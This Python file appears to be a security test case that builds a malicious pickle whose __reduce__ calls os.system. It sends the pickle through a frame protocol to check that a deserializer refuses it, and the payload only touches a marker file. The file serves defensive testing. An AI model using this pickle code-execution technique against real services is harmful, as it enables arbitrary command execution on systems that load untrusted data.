"""A pickle that runs a command when it is loaded: as a frame's text, as an array's data, behind an answer.

Must be observed: a violation, and the file that the command makes is not there.
Source: strop's own list of cases; CVE-2025-14931 was the loading of a pickle that a remote executor had sent.
"""

import os
import pickle
import time

from frames import HEADER, write

CASES = ("text", "array", "behind an answer")
CASE = 0
NUMBERS = (50,)
ROLE = "frames"
CONTROL = "architecture"
OBSERVED = {"outcome": "Violated"}


def attack(targets):
    trap = pickle.dumps(Trap(f"touch {targets['folder']}/marker"))
    text = (trap, b'{"returned":{"__nd__":["|O",[1]]}}', b'{"returned":1}')[CASE]
    data = b"" if CASE == 0 else trap
    write(4, HEADER.pack(len(text), len(data)) + text + data)
    time.sleep(60)


class Trap:
    def __init__(self, command):
        self._command = command

    def __reduce__(self):
        return os.system, (self._command,)
